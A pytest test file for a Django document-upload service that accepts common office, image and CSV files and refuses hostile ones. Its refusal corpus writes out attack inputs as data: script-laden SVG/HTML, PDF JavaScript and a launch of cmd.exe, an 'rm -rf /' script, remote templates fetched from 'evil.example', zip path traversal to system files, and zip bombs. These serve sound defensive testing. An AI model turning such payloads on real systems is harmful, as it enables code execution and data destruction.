import hashlib
import os
import stat

import pytest
from django.db import transaction

from foundation.audit.models import Entry
from foundation.documents.models import StoredFile
from foundation.documents.refusals import MAX_BYTES
from foundation.documents.services import UploadRefused, store_file
from tests.accounts.factories import UserFactory
from tests.documents import factories as make

pytestmark = pytest.mark.django_db

TYPES = StoredFile.ContentType


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


def files_in(folder):
    return sorted(path for path in folder.rglob("*") if path.is_file())


GOOD = {
    "pdf": (make.pdf(), "แผน.pdf", TYPES.PDF),
    "pdf in capitals": (make.pdf(), "PLAN.PDF", TYPES.PDF),
    "docx": (make.office(), "บันทึก.docx", TYPES.DOCX),
    "docx with a chart's own sheet": (
        make.office(parts={"word/embeddings/sheet1.xlsx": make.office(make.EXCEL)}),
        "a.docx",
        TYPES.DOCX,
    ),
    "docx with a link": (
        make.office(
            parts={"word/_rels/document.xml.rels": '<Relationship Type=".../hyperlink" TargetMode="External"/>'}
        ),
        "a.docx",
        TYPES.DOCX,
    ),
    "xlsx": (make.office(make.EXCEL), "ตาราง.xlsx", TYPES.XLSX),
    "csv": ("\ufeffสถานี,ค่า\n37t,48.3\n".encode(), "ค่า.csv", TYPES.CSV),
    "csv by semicolon": (b"station;value\n37t;48.3\n", "a.csv", TYPES.CSV),
    "csv of a cell like markup": ("ชื่อ,หมายเหตุ\nก,a < b และ <b>หนา</b>\n".encode(), "a.csv", TYPES.CSV),
    "png": (make.picture("PNG"), "ภาพ.png", TYPES.PNG),
    "jpg": (make.picture("JPEG"), "ภาพ.jpg", TYPES.JPEG),
    "jpeg": (make.picture("JPEG"), "ภาพ.jpeg", TYPES.JPEG),
    "jpg of a phone, with a trailer": (make.picture("JPEG") + b"SEFT" + b"\x00" * 40, "ภาพ.jpg", TYPES.JPEG),
}


@pytest.mark.parametrize("case", GOOD)
def test_store_file_knows_the_type_by_content(case, folder):
    content, name, content_type = GOOD[case]

    stored = store_file(make.upload(content, name, "text/html"), by=UserFactory(), label="เอกสารแนบ")

    assert (stored.content_type, stored.name, stored.size) == (content_type, name, len(content))
    assert stored.sha256 == hashlib.sha256(content).hexdigest()
    assert stored.path.read_bytes() == content
    assert files_in(folder) == [stored.path]
    assert stored.path.relative_to(folder).parts == (stored.pk.hex[:2], stored.pk.hex)
    assert stat.S_IMODE(os.stat(stored.path).st_mode) == 0o600
    entry = Entry.objects.latest("seq")
    assert (entry.action, entry.object_id, entry.actor_id) == ("documents.store", str(stored.pk), stored.uploaded_by_id)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
REMOTE = (
    '<Relationship Id="r1" Type=".../attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
)
OLE_LINK = '<Relationship TargetMode="External" Type=".../oleObject" Target="mhtml:https://evil.example/x.html!x"/>'
HOSTILE = {
    "nothing": (b"", "a.pdf", "empty"),
    "html as pdf": (HTML, "a.pdf", "unknown_type"),
    "html as png": (HTML, "a.png", "unknown_type"),
    "html as csv": (HTML, "a.csv", "unknown_type"),
    "html after blanks as csv": (b"\xef\xbb\xbf \n\t<HTML><script>1,2</script>", "a.csv", "unknown_type"),
    "html by its own name": (HTML, "a.html", "unknown_type"),
    "pdf named html": (make.pdf(), "a.html", "wrong_ending"),
    "pdf named svg": (make.pdf(), "a.svg", "wrong_ending"),
    "pdf without an ending": (make.pdf(), "a", "wrong_ending"),
    "pdf named exe": (make.pdf(), "a.pdf.exe", "wrong_ending"),
    "png named jpg": (make.picture("PNG"), "a.jpg", "wrong_ending"),
    "docx named xlsx": (make.office(), "a.xlsx", "wrong_ending"),
    "docx named zip": (make.office(), "a.zip", "wrong_ending"),
    "name that turns around": (make.pdf(), "a\u202efdp.exe", "wrong_ending"),
    "svg": (SVG, "a.svg", "unknown_type"),
    "svg as png": (SVG, "a.png", "unknown_type"),
    "svg after an xml head": (b'<?xml version="1.0"?>' + SVG, "a.csv", "unknown_type"),
    "polyglot pdf and html": (b"%PDF-1.4\n<html><script>alert(1)</script>\n%%EOF", "a.pdf", "active_content"),
    "html in front of a pdf": (HTML + make.pdf(), "a.pdf", "unknown_type"),
    "pdf with JavaScript": (make.pdf(b"2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "a.pdf", "active_content"),
    "pdf that starts a program": (make.pdf(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "a.pdf", "active_content"),
    "pdf cut short": (make.pdf()[:-8], "a.pdf", "broken"),
    "pdf of a head alone": (b"%PDF-1.7", "a.pdf", "broken"),
    "png cut short": (make.picture("PNG")[:-20], "a.png", "broken"),
    "png with a zip behind": (make.picture("PNG") + make.office(), "a.png", "broken"),
    "png of a head alone": (b"\x89PNG\r\n\x1a\n", "a.png", "broken"),
    "png with a script in its text": (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rtEXt<script>alert(1)</script>",
        "a.png",
        "active_content",
    ),
    "png of 3.6 thousand million pixels": (make.vast_png(), "a.png", "too_many_pixels"),
    "jpg of a head alone": (b"\xff\xd8\xff\xe0", "a.jpg", "broken"),
    "gif": (b"GIF89a" + b"\x00" * 20, "a.gif", "unknown_type"),
    "heic": (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 20, "a.jpg", "unknown_type"),
    "program": (b"MZ\x90\x00" + b"\x00" * 100, "a.pdf", "unknown_type"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "a.csv", "no_columns"),
    "EICAR as csv": (make.EICAR, "a.csv", "virus"),
    "EICAR in a pdf": (make.pdf(make.EICAR), "a.pdf", "virus"),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "a.doc", "old_office"),
    "old Excel named xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "a.xlsx", "old_office"),
    "csv in the old Thai code page": ("สถานี,ค่า\n".encode("cp874"), "a.csv", "not_utf8"),
    "csv in UTF-16": ("station,value\n".encode("utf-16"), "a.csv", "not_utf8"),
    "csv with NUL": (b"a,b\n\x00,1\n", "a.csv", "unknown_type"),
    "csv cut inside a sign": ("a,b\nก".encode()[:-1], "a.csv", "not_utf8"),
    "csv of one word": (b"hello\n", "a.csv", "no_columns"),
    "plain zip": (make.office("zip"), "a.docx", "unknown_type"),
    "zip of a head alone": (b"PK\x03\x04", "a.docx", "broken"),
    "powerpoint": (make.office("presentationml.presentation.main+xml"), "a.pptx", "unknown_type"),
    "docx with macros": (make.office(parts={"word/vbaProject.bin": b"x"}), "a.docx", "macro"),
    "docm": (make.office("wordprocessingml.document.macroEnabled.main+xml"), "a.docx", "macro"),
    "xlsx with ActiveX": (make.office(make.EXCEL, {"xl/activeX/activeX1.bin": b"x"}), "a.xlsx", "macro"),
    "docx with a program": (make.office(parts={"word/embeddings/run.EXE": b"MZ"}), "a.docx", "macro"),
    "docx with a zip": (make.office(parts={"word/embeddings/a.zip": make.office()}), "a.docx", "macro"),
    "docx with a far template": (make.office(parts={"word/_rels/settings.xml.rels": REMOTE}), "a.docx", "outside_part"),
    "docx with a far object": (make.office(parts={"word/_rels/document.xml.rels": OLE_LINK}), "a.docx", "outside_part"),
    "docx that leads out": (make.odd_zip("../../../etc/cron.d/x"), "a.docx", "broken"),
    "docx from the root": (make.odd_zip("/etc/passwd"), "a.docx", "broken"),
    "docx from a drive": (make.odd_zip("C:\\windows\\x"), "a.docx", "broken"),
    "docx with a DTD": (make.office(make.WORD + '"/><!DOCTYPE x [<!ENTITY a "b">]><x a="'), "a.docx", "broken"),
    "bomb by ratio": (make.office(parts={"word/media/a.bin": b"\x00" * 30_000_000}), "a.docx", "bomb"),
    "bomb by number": (make.office(parts={f"word/{n}.xml": b"" for n in range(1100)}), "a.docx", "broken"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_store_file_refuses_hostile_files(case, folder):
    content, name, code = HOSTILE[case]

    with pytest.raises(UploadRefused) as refusal:
        store_file(make.upload(content, name), by=UserFactory())

    assert refusal.value.code == code
    assert "ส่ง" in refusal.value.messages[0]
    assert files_in(folder) == []
    assert StoredFile.objects.count() == 0


def test_corpus_is_large_enough():
    assert len(HOSTILE) >= 40


def test_store_file_refuses_an_encrypted_docx(folder):
    content = bytearray(make.office(parts={"word/a.xml": b"x"}))
    for start in (b"PK\x03\x04", b"PK\x01\x02"):
        at = content.index(start)
        content[at + (6 if start == b"PK\x03\x04" else 8)] |= 1

    with pytest.raises(UploadRefused) as refusal:
        store_file(make.upload(bytes(content), "a.docx"), by=None)

    assert refusal.value.code == "locked"


def test_store_file_stops_at_the_limit(folder):
    content = make.pdf(b"x" * (MAX_BYTES + 1))

    with pytest.raises(UploadRefused) as refusal:
        store_file(make.upload(content), by=None)

    assert refusal.value.messages == ["ไฟล์ใหญ่เกิน 20 MB ลดขนาดภาพหรือแบ่งเป็นหลายไฟล์แล้วส่งใหม่"]
    assert files_in(folder) == []


def test_store_file_logs_a_refusal_without_the_name(caplog):
    with pytest.raises(UploadRefused):
        store_file(make.upload(b"", "สมชาย ใจดี.pdf"), by=None)

    assert [(record.message, record.reason) for record in caplog.records if record.name == "security"] == [
        ("upload.reject", "empty")
    ]
    assert "สมชาย" not in caplog.text


@pytest.mark.django_db(transaction=True)
def test_store_file_leaves_nothing_when_the_transaction_rolls_back(folder):
    def store_and_fail():
        with transaction.atomic():
            store_file(make.upload(make.pdf()), by=None)
            raise LookupError

    with pytest.raises(LookupError):
        store_and_fail()

    assert files_in(folder) == []
    assert StoredFile.objects.count() == 0


@pytest.mark.django_db(transaction=True)
def test_store_file_survives_the_rollback_of_a_later_savepoint(folder):
    with transaction.atomic():
        stored = store_file(make.upload(make.pdf()), by=None)
        try:
            with transaction.atomic():
                store_file(make.upload(make.pdf(b"two")), by=None)
                raise LookupError
        except LookupError:
            pass

    assert files_in(folder) == [stored.path]


@pytest.mark.django_db(transaction=True)
def test_store_file_keeps_the_file_after_the_commit(folder):
    stored = store_file(make.upload(make.pdf()), by=None)

    assert files_in(folder) == [stored.path]


def test_store_file_leaves_nothing_when_the_row_cannot_be_written(folder, monkeypatch):
    def fail(*args, **kwargs):
        raise LookupError

    monkeypatch.setattr("foundation.documents.services.record", fail)

    with pytest.raises(LookupError):
        store_file(make.upload(make.pdf()), by=None)

    assert files_in(folder) == []
